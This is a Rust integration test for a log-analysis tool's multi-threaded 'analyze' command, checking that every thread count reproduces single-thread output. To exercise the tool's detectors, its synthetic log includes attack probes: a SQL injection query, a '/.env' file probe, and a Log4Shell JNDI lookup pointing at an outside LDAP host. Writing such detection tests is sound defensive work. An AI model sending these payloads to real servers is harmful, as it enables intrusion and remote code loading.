//! `analyze --threads N` parses and enriches log lines on N threads and
//! detects on one, in input order: every output must be byte for byte what
//! one thread gives. Three logs merged (the seven-actor scenario, a quiet
//! busy API, and a file of bad, error-log and good lines), so that chunks
//! of several files interleave and bad lines fall between exchanges.
//! With more than one thread the workers also run the detectors' payload
//! searches (`detect::inspect`): the log holds probes those searches find,
//! in targets and in user agents.

use std::{fs, path::Path, process::Command};

use rejectwatch_tests::{TempDir, rejectwatch_bin};

/// Every file `analyze` writes, and its summary line, for one thread count.
fn outputs(inputs: &[&Path], state: &Path, out: &TempDir, threads: u32) -> Vec<(String, String)> {
    let cases = Path::new(env!("CARGO_MANIFEST_DIR")).join("cases");
    let case = cases.join("scenario-seven-actors");
    let name = |f: &str| out.path(&format!("{threads}-{f}"));
    let files = ["exchanges.jsonl", "findings.jsonl", "actors.json", "prospects.csv", "blocklist.txt", "metrics.prom"];
    let mut cmd = Command::new(rejectwatch_bin());
    cmd.arg("analyze").args(inputs).args(["--threads", &threads.to_string()]);
    cmd.arg("--config").arg(case.join("config.toml"));
    cmd.arg("--geoip-country").arg(cases.join("geo-country.csv"));
    cmd.arg("--geoip-asn").arg(cases.join("geo-asn.csv"));
    cmd.args(["--mark", "disclosure=2026-11-05T09:00:00Z"]);
    for (flag, f) in
        ["--exchanges", "--findings", "--actors", "--prospects", "--blocklist", "--metrics"].iter().zip(files)
    {
        cmd.arg(flag).arg(name(f));
    }
    // One state directory for every run: the identity key is in it.
    cmd.arg("--state-dir").arg(state);
    let o = cmd.output().expect("run analyze");
    let stderr = String::from_utf8_lossy(&o.stderr).into_owned();
    assert!(o.status.success(), "analyze --threads {threads} failed: {stderr}");
    let mut v: Vec<(String, String)> = files
        .iter()
        .map(|f| (f.to_string(), fs::read_to_string(name(f)).unwrap_or_else(|e| panic!("{f}: {e}"))))
        .collect();
    v.push(("stderr".into(), stderr));
    v
}

#[test]
fn every_thread_count_gives_what_one_thread_gives() {
    let cases = Path::new(env!("CARGO_MANIFEST_DIR")).join("cases");
    let out = TempDir::new("parallel");
    let mixed = out.path("mixed.log");
    let line = |ip: &str, s: u32, p: &str, st: u16, ua: &str| {
        format!("{ip} - - [04/Nov/2026:12:00:{s:02} +0000] \"GET {p} HTTP/1.1\" {st} 0 \"-\" \"{ua}\"\n")
    };
    let good = |ip: &str, s: u32, p: &str, st: u16| line(ip, s, p, st, "curl/8.5.0");
    let mut text = String::new();
    for i in 0..40u32 {
        text.push_str(&good("198.51.100.7", i, &format!("/api/v1/orders/{i}"), 404));
        if i % 10 == 1 {
            text.push_str(&good("203.0.113.9", i, "/api/v1/search?q=1%27%20OR%201=1--", 400));
            text.push_str(&good("203.0.113.9", i, "/.env", 404));
            text.push_str(&line("203.0.113.10", i, "/api/v1/orders/1", 401, "${jndi:ldap://198.51.100.1/a}"));
        }
        text.push_str(if i % 3 == 0 { "garbage line\n" } else { "\n" });
        if i % 7 == 0 {
            text.push_str("2026/11/04 12:00:00 [error] 12#0: *1 open() \"/srv/x\" failed (2: No such file)\n");
        }
    }
    fs::write(&mixed, text).expect("write log");
    let scenario = cases.join("scenario-seven-actors/input.log.gz");
    let busy = cases.join("quiet-busy-api/input.log.gz");
    let inputs = [scenario.as_path(), busy.as_path(), mixed.as_path()];
    let state = out.path("state");
    let one = outputs(&inputs, &state, &out, 1);
    let exchanges = one[0].1.lines().count();
    let findings = one[1].1.lines().count();
    assert!(exchanges > 10_000 && findings > 5, "too little to compare: {exchanges} exchanges, {findings} findings");
    for (detector, place) in [
        ("sensitive-file-probe", "tried /.env"),
        ("injection-probe", "in its target"),
        ("injection-probe", "in its user_agent"),
    ] {
        assert!(
            one[1].1.lines().any(|f| f.contains(&format!("\"detector\":\"{detector}\"")) && f.contains(place)),
            "no {detector} finding in {place}: the workers' searches would go untested"
        );
    }
    for threads in [2, 4] {
        for ((name, a), (_, b)) in one.iter().zip(outputs(&inputs, &state, &out, threads)) {
            // Compared as lines, so that a difference names its place.
            let first = a.lines().zip(b.lines()).position(|(x, y)| x != y);
            assert!(
                a == &b,
                "{name} differs with --threads {threads}: {} against {} lines, first difference at line {:?}",
                a.lines().count(),
                b.lines().count(),
                first.map(|i| i + 1)
            );
        }
    }
}
